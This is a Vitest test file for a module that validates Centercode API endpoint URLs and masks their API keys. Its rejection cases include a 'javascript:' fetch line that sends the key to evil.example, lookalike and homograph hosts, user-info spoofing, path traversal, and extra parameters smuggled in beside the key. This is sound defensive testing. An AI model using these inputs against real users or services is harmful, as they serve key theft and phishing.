import { describe, expect, it } from 'vitest'
import messages from '../../../public/_locales/en/messages.json'
import {
  checkEndpoint,
  composeEndpoint,
  endpointMessageKey,
  endpointProblems,
  fillKeyPlaceholder,
  hasKeyPlaceholder,
  isCentercodeCommunityOrigin,
  maskEndpoint,
  type Endpoint,
  type EndpointProblem,
} from './endpoint'

const hex = '3b07444444444444aaaabbbbccccdddd'
const hex2 = '0123456789abcdef0123456789abcdef'
const skel = `Skel${hex}`
const dflt = `default${hex2}`
const acme = 'https://acme.centercode.com'
const training = 'https://training.centercode.com'
const base = `${acme}/api/v1/projects/JimCV2Template/feedback/test`
const good = `${base}?apiKey=${skel}`

type Parts = Omit<Endpoint, 'url' | 'origin'>
type Case = [label: string, input: string, community: string, expected: EndpointProblem | Parts]

const parts = (projectKey: string, sourceKey: string, apiKey: string): Parts => ({ projectKey, sourceKey, apiKey })

const cases: Case[] = [
  // good
  ['the usual shape', good, acme, parts('JimCV2Template', 'test', skel)],
  ['training community, default prefix', `${training}/api/v1/projects/JimCV2Template/feedback/test?apiKey=${dflt}`, training, parts('JimCV2Template', 'test', dflt)],
  ['keys with - and _', `https://globex-beta.centercode.com/api/v1/projects/Mobile_App-2024/feedback/testfairy-crash_reports?apiKey=${skel}`, 'https://globex-beta.centercode.com', parts('Mobile_App-2024', 'testfairy-crash_reports', skel)],
  ['empty key prefix', `${base}?apiKey=${hex}`, acme, parts('JimCV2Template', 'test', hex)],
  ['16-character key prefix', `${base}?apiKey=ABCDEFGHijklmnop${hex}`, acme, parts('JimCV2Template', 'test', `ABCDEFGHijklmnop${hex}`)],
  ['single-character keys', `${acme}/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, parts('P', 's', skel)],
  ['64-character keys', `${acme}/api/v1/projects/${'p'.repeat(64)}/feedback/${'s'.repeat(64)}?apiKey=${skel}`, acme, parts('p'.repeat(64), 's'.repeat(64), skel)],
  ['pasted with spaces and a newline', `  \n\t${good} \r\n`, acme, parts('JimCV2Template', 'test', skel)],
  ['upper-case scheme and host', `HTTPS://ACME.CenterCode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, parts('JimCV2Template', 'test', skel)],
  ['one trailing slash', `${base}/?apiKey=${skel}`, acme, parts('JimCV2Template', 'test', skel)],
  ['approved custom domain', `https://beta.example.com/api/v1/projects/P1/feedback/s1?apiKey=${skel}`, 'https://beta.example.com', parts('P1', 's1', skel)],
  ['community origin given with a slash', good, `${acme}/`, parts('JimCV2Template', 'test', skel)],
  // empty, long, white space
  ['empty', '', acme, 'empty'],
  ['only white space', ' \n\t ', acme, 'empty'],
  ['over-long', `${good}${'a'.repeat(2048)}`, acme, 'tooLong'],
  ['space inside', `${base}?apiKey=Skel ${hex}`, acme, 'whitespace'],
  ['newline inside', `${acme}/api/v1/projects/JimCV2Template/\nfeedback/test?apiKey=${skel}`, acme, 'whitespace'],
  ['tab inside the host', `https://acme.center\tcode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'whitespace'],
  ['zero-width space inside', `${base}?apiKey=\u200B${skel}`, acme, 'whitespace'],
  // scheme
  ['plain http', `http://acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notHttps'],
  ['ftp', `ftp://acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notHttps'],
  ['javascript:', `javascript:fetch('https://evil.example/?k=${skel}')`, acme, 'notHttps'],
  ['no scheme', `acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notHttps'],
  ['protocol-relative', `//acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notUrl'],
  ['not a URL at all', 'paste the endpoint here', acme, 'notUrl'],
  ['https: without slashes', `https:acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notUrl'],
  ['https: with three slashes', `https:///acme.centercode.com/api/v1/projects/JimCV2Template/feedback/test?apiKey=${skel}`, acme, 'notUrl'],
  ['backslashes', `https:\\\\acme.centercode.com\\api\\v1\\projects\\P\\feedback\\s?apiKey=${skel}`, acme, 'notUrl'],
  // user info, port
  ['user and password', `https://user:pass@acme.centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasUserInfo'],
  ['host as user name', `https://acme.centercode.com@evil.example/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasUserInfo'],
  ['empty user info', `https://@acme.centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasUserInfo'],
  ['port 8443', `https://acme.centercode.com:8443/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasPort'],
  ['default port written out', `https://acme.centercode.com:443/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasPort'],
  ['bare colon', `https://acme.centercode.com:/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'hasPort'],
  // host
  ['another community', `https://globex.centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['lookalike: suffix', `https://acme.centercode.com.evil.example/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['lookalike: missing dot', `https://acmecentercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['lookalike: other domain', `https://centercode.com.acme.io/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['lookalike: punycode', `https://xn--cme-8cd.centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['lookalike: Cyrillic а', `https://аcme.centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['trailing dot', `https://acme.centercode.com./api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['percent-encoded host', `https://acme%2Ecentercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['bare centercode.com', `https://centercode.com/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongHost'],
  ['community origin is not a URL', good, 'acme', 'wrongHost'],
  // fragment
  ['fragment', `${good}#section`, acme, 'hasFragment'],
  ['empty fragment', `${good}#`, acme, 'hasFragment'],
  ['fragment hiding the key', `${base}#?apiKey=${skel}`, acme, 'hasFragment'],
  // path
  ['api v2', `${acme}/api/v2/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['upper-case API', `${acme}/API/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['no source segment', `${acme}/api/v1/projects/P/feedback?apiKey=${skel}`, acme, 'wrongPath'],
  ['no feedback segment', `${acme}/api/v1/projects/P?apiKey=${skel}`, acme, 'wrongPath'],
  ['no path', `${acme}/?apiKey=${skel}`, acme, 'wrongPath'],
  ['extra segment', `${acme}/api/v1/projects/P/feedback/s/extra?apiKey=${skel}`, acme, 'wrongPath'],
  ['two trailing slashes', `${acme}/api/v1/projects/P/feedback/s//?apiKey=${skel}`, acme, 'wrongPath'],
  ['double slash inside', `${acme}/api//v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['encoded dots', `${acme}/api/v1/projects/%2e%2e/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['encoded slash', `${acme}/api/v1/projects/P%2Ffeedback/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['dot-dot segments', `${acme}/api/v1/projects/x/../P/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['prefix before api', `${acme}/evil/api/v1/projects/P/feedback/s?apiKey=${skel}`, acme, 'wrongPath'],
  ['empty project key', `${acme}/api/v1/projects//feedback/s?apiKey=${skel}`, acme, 'badProjectKey'],
  ['project key with a dot', `${acme}/api/v1/projects/Jim.CV2/feedback/s?apiKey=${skel}`, acme, 'badProjectKey'],
  ['project key too long', `${acme}/api/v1/projects/${'p'.repeat(65)}/feedback/s?apiKey=${skel}`, acme, 'badProjectKey'],
  ['source key with a plus', `${acme}/api/v1/projects/P/feedback/s+t?apiKey=${skel}`, acme, 'badSourceKey'],
  ['source key too long', `${acme}/api/v1/projects/P/feedback/${'s'.repeat(65)}?apiKey=${skel}`, acme, 'badSourceKey'],
  // query
  ['no query', base, acme, 'missingApiKey'],
  ['empty query', `${base}?`, acme, 'missingApiKey'],
  ['empty key', `${base}?apiKey=`, acme, 'missingApiKey'],
  ['key without =', `${base}?apiKey`, acme, 'missingApiKey'],
  ['wrong case apikey', `${base}?apikey=${skel}`, acme, 'missingApiKey'],
  ['wrong name key', `${base}?key=${skel}`, acme, 'missingApiKey'],
  ['key twice', `${base}?apiKey=${skel}&apiKey=${dflt}`, acme, 'repeatedApiKey'],
  ['same key twice', `${base}?apiKey=${skel}&apiKey=${skel}`, acme, 'repeatedApiKey'],
  ['utm_source', `${good}&utm_source=newsletter`, acme, 'extraParameters'],
  ['callback first', `${base}?callback=steal&apiKey=${skel}`, acme, 'extraParameters'],
  ['trailing &', `${good}&`, acme, 'extraParameters'],
  ['the short demo key', `${base}?apiKey=default3b0744444444`, acme, 'badApiKey'],
  ['key one short', `${base}?apiKey=${skel.slice(0, -1)}`, acme, 'badApiKey'],
  ['non-hex key', `${base}?apiKey=Skel${hex.slice(0, 31)}z`, acme, 'badApiKey'],
  ['upper-case hex', `${base}?apiKey=Skel${hex.toUpperCase()}`, acme, 'badApiKey'],
  ['percent-encoded key', `${base}?apiKey=Skel%33${hex.slice(1)}`, acme, 'badApiKey'],
  ['placeholder {API_KEY}', `${base}?apiKey={API_KEY}`, acme, 'placeholderKey'],
  ['placeholder <your API key>', `${base}?apiKey=<your API key>`, acme, 'placeholderKey'],
  ['placeholder YOUR_API_KEY', `${base}?apiKey=YOUR_API_KEY`, acme, 'placeholderKey'],
  ['placeholder [API Key]', `${base}?apiKey=[API Key]`, acme, 'placeholderKey'],
  ['placeholder {apiKey}', `${base}?apiKey={apiKey}`, acme, 'placeholderKey'],
  ['placeholder %7BAPI_KEY%7D', `${base}?apiKey=%7BAPI_KEY%7D`, acme, 'placeholderKey'],
  ['placeholder but wrong host', `https://evil.example/api/v1/projects/P/feedback/s?apiKey={API_KEY}`, acme, 'wrongHost'],
  ['placeholder and extra parameter', `${base}?apiKey={API_KEY}&utm_source=x`, acme, 'extraParameters'],
]

describe('checkEndpoint', () => {
  it('has at least 40 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40)
  })

  it.each(cases)('%s', (_label, input, community, expected) => {
    const check = checkEndpoint(input, community)
    if (typeof expected === 'string') {
      expect(check).toEqual({ ok: false, problem: expected, messageKey: endpointMessageKey(expected) })
    } else {
      expect(check.ok).toBe(true)
      if (!check.ok) return
      const origin = new URL(community).origin
      expect(check.endpoint).toEqual({
        ...expected,
        origin,
        url: `${origin}/api/v1/projects/${expected.projectKey}/feedback/${expected.sourceKey}?apiKey=${expected.apiKey}`,
      })
      // The normalised URL is a fixed point.
      expect(checkEndpoint(check.endpoint.url, community)).toEqual(check)
    }
  })

  it('covers every problem', () => {
    const seen = new Set(cases.map(([, , , expected]) => expected).filter((e) => typeof e === 'string'))
    expect([...seen].sort()).toEqual([...endpointProblems].sort())
  })
})

describe('messages', () => {
  const entries = messages as Record<string, { message: string; placeholders?: Record<string, { content: string }> }>

  it.each(endpointProblems)('%s has a message', (problem) => {
    const key = endpointMessageKey(problem)
    expect(key).toMatch(/^endpoint[A-Z]/)
    expect(entries[key]?.message).toBeTruthy()
    // Never echoes a key (messages are static text).
    expect(entries[key]?.message).not.toMatch(/[0-9a-f]{32}/)
  })

  it('endpointWrongHost names the expected host through $1', () => {
    const entry = entries['endpointWrongHost']
    expect(entry?.message).toMatch(/\$HOST\$/)
    expect(entry?.placeholders?.['host']?.content).toBe('$1')
  })
})

describe('isCentercodeCommunityOrigin', () => {
  it.each([
    ['https://acme.centercode.com', true],
    ['https://training.centercode.com', true],
    ['https://globex-beta.centercode.com', true],
    ['https://ACME.CenterCode.com', true],
    ['https://acme.centercode.com/', true],
    ['https://a1.centercode.com', true],
    [`https://${'a'.repeat(63)}.centercode.com`, true],
    ['http://acme.centercode.com', false],
    ['https://acme.centercode.com:443', false],
    ['https://acme.centercode.com:8443', false],
    ['https://centercode.com', false],
    ['https://www.centercode.com', false],
    ['https://a.b.centercode.com', false],
    ['https://acme.centercode.com.evil.example', false],
    ['https://acmecentercode.com', false],
    ['https://centercode.com.acme.io', false],
    ['https://-acme.centercode.com', false],
    ['https://acme-.centercode.com', false],
    [`https://${'a'.repeat(64)}.centercode.com`, false],
    ['https://user@acme.centercode.com', false],
    ['https://acme.centercode.com/project/home.html', false],
    ['https://acme.centercode.com?x=1', false],
    ['https://acme.centercode.com.', false],
    ['https://аcme.centercode.com', false],
    [' https://acme.centercode.com', false],
    ['acme.centercode.com', false],
    ['', false],
  ])('%s → %s', (origin, expected) => {
    expect(isCentercodeCommunityOrigin(origin)).toBe(expected)
  })
})

describe('maskEndpoint', () => {
  it.each([
    [skel, 'Skel•••••dddd'],
    [dflt, 'default•••••cdef'],
    [hex, '•••••dddd'],
  ])('%s', (apiKey, masked) => {
    const check = checkEndpoint(`${base}?apiKey=${apiKey}`, acme)
    expect(check.ok).toBe(true)
    if (!check.ok) return
    const shown = maskEndpoint(check.endpoint)
    expect(shown).toBe(`${base}?apiKey=${masked}`)
    expect(shown).not.toContain(apiKey)
    expect(shown).not.toContain(apiKey.slice(-32))
    expect(shown).not.toContain(apiKey.slice(-8))
  })

  it('hides a malformed key too', () => {
    const endpoint: Endpoint = { url: '', origin: acme, projectKey: 'P', sourceKey: 's', apiKey: 'short' }
    expect(maskEndpoint(endpoint)).toBe(`${acme}/api/v1/projects/P/feedback/s?apiKey=•••••`)
  })
})

describe('fillKeyPlaceholder / hasKeyPlaceholder', () => {
  it.each([
    '{API_KEY}',
    '{apiKey}',
    '{{apiKey}}',
    '${API_KEY}',
    '<your API key>',
    '<API_KEY>',
    '[API Key]',
    '(api key)',
    'YOUR_API_KEY',
    'API_KEY',
    'your-api-key-here',
    'apikey',
    'XXXXXXXXXXXX',
    '********',
    '%7BAPI_KEY%7D',
    '%7bapiKey%7d',
    '%3Cyour%20API%20key%3E',
    '%5BAPI%20Key%5D',
  ])('%s', (placeholder) => {
    const shown = `${base}?apiKey=${placeholder}`
    expect(hasKeyPlaceholder(shown)).toBe(true)
    expect(checkEndpoint(shown, acme)).toMatchObject({ ok: false, problem: 'placeholderKey' })
    const filled = fillKeyPlaceholder(shown, skel)
    expect(filled).toBe(good)
    expect(checkEndpoint(filled ?? '', acme)).toMatchObject({ ok: true, endpoint: { url: good, apiKey: skel } })
  })

  it('fills a placeholder inside surrounding text', () => {
    const filled = fillKeyPlaceholder(`  API Endpoint URL: ${base}?apiKey={API_KEY}\n`, dflt)
    expect(filled).toBe(`  API Endpoint URL: ${base}?apiKey=${dflt}\n`)
  })

  it.each([
    ['a real key', good],
    ['no key at all', base],
    ['empty key', `${base}?apiKey=`],
    ['a bad key', `${base}?apiKey=default3b0744444444`],
    ['wrong parameter name', `${base}?apikey={API_KEY}`],
    ['plain text', 'Paste your API key here'],
    ['empty', ''],
  ])('no placeholder: %s → null', (_label, text) => {
    expect(fillKeyPlaceholder(text, skel)).toBeNull()
    expect(hasKeyPlaceholder(text)).toBe(false)
  })

  it('refuses to fill in something that is not a key', () => {
    expect(fillKeyPlaceholder(`${base}?apiKey={API_KEY}`, `${skel}&callback=x`)).toBeNull()
    expect(fillKeyPlaceholder(`${base}?apiKey={API_KEY}`, '')).toBeNull()
  })

  it('hasKeyPlaceholder wants an endpoint, not just a parameter', () => {
    expect(hasKeyPlaceholder('?apiKey={API_KEY}')).toBe(false)
    expect(fillKeyPlaceholder('?apiKey={API_KEY}', skel)).toBe(`?apiKey=${skel}`)
  })
})

describe('composeEndpoint', () => {
  it.each([
    [acme, 'JimCV2Template', 'test', skel],
    [training, 'Mobile_App-2024', 'testfairy-crash_reports', dflt],
    ['https://ACME.centercode.com/', 'P', 's', hex],
  ])('%s %s %s round-trips', (origin, projectKey, sourceKey, apiKey) => {
    const url = `${new URL(origin).origin}/api/v1/projects/${projectKey}/feedback/${sourceKey}?apiKey=${apiKey}`
    expect(composeEndpoint({ origin, projectKey, sourceKey, apiKey })).toMatchObject({ ok: true, endpoint: { url, projectKey, sourceKey, apiKey } })
    expect(checkEndpoint(url, origin)).toMatchObject({ ok: true })
    expect(url).toBe(`${new URL(origin).origin}/api/v1/projects/${projectKey}/feedback/${sourceKey}?apiKey=${apiKey}`)
  })

  it.each([
    [{ origin: 'acme', projectKey: 'P', sourceKey: 's', apiKey: skel }, 'wrongHost'],
    [{ origin: 'http://acme.centercode.com', projectKey: 'P', sourceKey: 's', apiKey: skel }, 'notHttps'],
    [{ origin: acme, projectKey: '../x', sourceKey: 's', apiKey: skel }, 'wrongPath'],
    [{ origin: acme, projectKey: 'P', sourceKey: 's?x=1', apiKey: skel }, 'missingApiKey'],
    [{ origin: acme, projectKey: 'P', sourceKey: 's', apiKey: 'short' }, 'badApiKey'],
    [{ origin: acme, projectKey: 'P', sourceKey: 's', apiKey: `${skel}&callback=x` }, 'extraParameters'],
  ])('refuses bad parts (%j)', (bad, problem) => {
    const check = composeEndpoint(bad)
    expect(check).toEqual({ ok: false, problem, messageKey: endpointMessageKey(problem as EndpointProblem) })
    expect(JSON.stringify(check)).not.toContain(skel)
  })
})
